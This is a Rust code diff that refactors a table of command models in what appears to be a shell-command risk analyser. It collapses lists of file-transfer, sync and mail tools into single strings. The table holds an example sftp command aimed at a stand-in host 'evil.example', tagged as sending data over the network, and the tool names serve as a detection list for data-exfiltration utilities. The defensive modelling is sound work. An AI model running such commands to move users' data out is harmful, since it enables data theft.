@@ -5,7 +5,7 @@ use super::super::invocation::Argument;
 use super::super::model::{Grammar, Model, Parsed, Report};
 use super::super::value::Value;
 use super::address::remote_of_copy;
-use super::kinds::{ex, gnu, list, model, posix};
+use super::kinds::{WORDS, ex, gnu, list, model, posix, reads};
 
 pub(super) const TABLE: &[Model] = &[
     model(
@@ -60,22 +60,9 @@ pub(super) const TABLE: &[Model] = &[
         &[ex("sftp -b cmds me@evil.example", &["code:stdin", "network:send"])],
     ),
     model(
-        &[
-            "rclone",
-            "croc",
-            "magic-wormhole",
-            "wormhole",
-            "transfer",
-            "ipfs",
-            "syncthing",
-            "unison",
-            "lsyncd",
-            "duplicity",
-            "restic",
-            "borg",
-            "rdiff-backup",
-        ],
-        &super::kinds::WORDS,
+        &["rclone croc magic-wormhole wormhole ipfs syncthing unison lsyncd duplicity restic \
+             borg rdiff-backup"],
+        &WORDS,
         |report, _| {
             report.connects_somewhere(true, Payload::File(Value::known("")));
             report.not_understood("what it sends is not known");
@@ -155,7 +142,7 @@ pub(super) const TABLE: &[Model] = &[
         &[ex("ssh-agent -s", &[]), ex("ssh-agent id", &["unmodelled"])],
     ),
     model(
-        &["mail", "mailx", "sendmail", "mutt", "msmtp", "swaks", "ssmtp", "exim", "s-nail"],
+        &["mail mailx sendmail mutt msmtp swaks ssmtp exim s-nail"],
         &gnu(&[list(
             "-s=, -a=<, -A=<, -c=, -b=, -r=, -t, -v, -n, -i, -f=, -q=, -S=, -e=, -H=, -x, -E, -N, -F=, -B=",
         )]),
@@ -303,5 +290,5 @@ fn ssh_keygen(report: &mut Report<'_>, parsed: &Parsed<'_>) {
         None if !parsed.has("-D") => report.path(access, &default),
         None => {}
     }
-    super::kinds::reads(report, parsed);
+    reads(report, parsed);
 }
